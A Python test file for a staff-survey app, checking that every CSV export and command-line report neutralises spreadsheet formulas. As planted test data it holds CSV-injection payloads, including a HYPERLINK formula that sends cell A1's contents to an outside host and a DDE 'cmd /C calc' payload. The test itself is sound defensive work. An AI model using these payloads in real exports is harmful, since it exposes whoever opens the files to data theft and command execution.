"""No CSV the app writes holds a live spreadsheet formula (issue 21, item 3).

Staff free text (comments), organisation names, wave names and links go into CSV files that
EDI leads, guardians and administrators open in Excel. One world holds a formula in every
such place; then every CSV the app writes, from the pages and from the commands, is read
back cell by cell: no cell starts with "=", "+", "-", "@", a tab or a carriage return, and
each planted formula is there, neutralised by one leading apostrophe (survey/csvsafe.py).
"""
from __future__ import annotations

import csv
import datetime as dt
import io

from survey import csvsafe
from survey.concerns import ConcernInput, raise_concern as op_raise
from survey.concerns.quarterly import Quarter
from survey.extensions import access_key_hasher, keyring
from survey.models import Comment
from survey.releases.build import build_wave_release, params_from_config
from tests.conftest import post_form
from tests.releases_helpers import TODAY, add_random_responses, make_orgs, make_wave

COMMENT = '=HYPERLINK("http://x/?"&A1,"Open")'
PRACTICE = "+Elm Surgery"
PCN = "@SUM(1+1)*cmd|' /C calc'!A0"
WAVE = "-2+3 staff survey"
BASE = "=HYPERLINK(\"http://evil.example\")"     # links start with BASE_URL
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_inert(name: str, text: str, planted: tuple[str, ...]) -> None:
    cells = _cells(text)
    assert cells, name
    live = [c for c in cells if c.startswith(DANGER)]
    assert not live, f"{name}: {live[:5]}"
    for p in planted:
        assert "'" + p in cells, f"{name}: {p!r} not found neutralised"


def test_the_helper():
    assert [csvsafe.cell(v) for v in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "a=1", "", 5, -3, None)] == \
        ["'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1", "a=1", "", 5, -3, None]
    out = io.StringIO()
    csvsafe.writer(out).writerow(["=1", "ok", 2])
    assert out.getvalue() == "'=1,ok,2\r\n"


def test_every_csv_the_app_writes_is_inert(app, db, runner, make_staff, sign_in, tmp_path):
    app.config["BASE_URL"] = BASE
    orgs = make_orgs(db, {"ICSF": {"PCNF": ["F1", "F2"]}})
    orgs["F1"].name, orgs["PCNF"].name = PRACTICE, PCN
    closed = make_wave(db, WAVE, orgs.values(), invited={"F1": 40, "F2": 30})
    add_random_responses(db, closed, [orgs["F1"], orgs["F2"]], [30, 22], seed=3)
    db.add(Comment(wave_id=closed.id, org_id=orgs["F1"].id, question_id="comments", body=keyring().encrypt(COMMENT)))
    opened = make_wave(db, "Open wave", orgs.values(), closed=False)
    db.commit()
    build_wave_release(db, closed, params_from_config(app.config), today=TODAY)
    quarter = Quarter(2025, 1)
    for _ in range(4):
        op_raise(db, keyring(), access_key_hasher(), ConcernInput(text="x", elements=["bullying"], org_id=orgs["F1"].id),
                 on=dt.date(2025, 4, 10))
    db.commit()

    written: dict[str, str] = {}
    edi = app.test_client()
    sign_in(edi, make_staff("edi_lead"))
    for name in ("indicators.csv", "response_rates.csv"):
        resp = edi.get(f"/reports/waves/{closed.id}/download/{name}")
        assert resp.status_code == 200, name
        written["web " + name] = resp.get_data(as_text=True)

    guardian = app.test_client()
    sign_in(guardian, make_staff("guardian"))
    resp = post_form(guardian, "/guardian/return", {"quarter": quarter.label})
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    written["web return"] = resp.get_data(as_text=True)

    admin = app.test_client()
    sign_in(admin, make_staff("admin"))
    resp = post_form(admin, f"/admin/waves/{opened.id}/tokens", {"org": "F1", "count": "2", "output": "csv"},
                     get_url=f"/admin/waves/{opened.id}")
    assert resp.status_code == 200 and resp.mimetype == "text/csv", resp.get_data(as_text=True)[:300]
    written["web tokens"] = resp.get_data(as_text=True)

    out = tmp_path / "report"
    result = runner.invoke(args=["report", "--wave", WAVE, "--out", str(out), "--with-comments"])
    assert result.exit_code == 0, result.output
    for name in ("indicators.csv", "response_rates.csv", "comments.csv"):
        written["command " + name] = (out / name).read_text(encoding="utf-8")
    result = runner.invoke(args=["speakup", "return", "--quarter", quarter.label, "--out", str(tmp_path / "q.csv")])
    assert result.exit_code == 0, result.output
    written["command return"] = (tmp_path / "q.csv").read_text()
    result = runner.invoke(args=["tokens", "issue", "--wave", "Open wave", "--org", "F2", "--count", "2",
                                 "--out", str(tmp_path / "links.csv")])
    assert result.exit_code == 0, result.output
    written["command tokens"] = (tmp_path / "links.csv").read_text()

    planted = {
        "indicators.csv": (WAVE, PRACTICE, PCN), "response_rates.csv": (WAVE, PRACTICE, PCN),
        "comments.csv": (WAVE, PRACTICE, COMMENT), "return": (PRACTICE,), "tokens": (),
    }
    for name, text in written.items():
        _assert_inert(name, text, planted[name.split(" ", 1)[1]])
    for name in ("web tokens", "command tokens"):
        links = _cells(written[name])[1:]
        assert len(links) == 2 and all(link.startswith("'" + BASE) for link in links), links
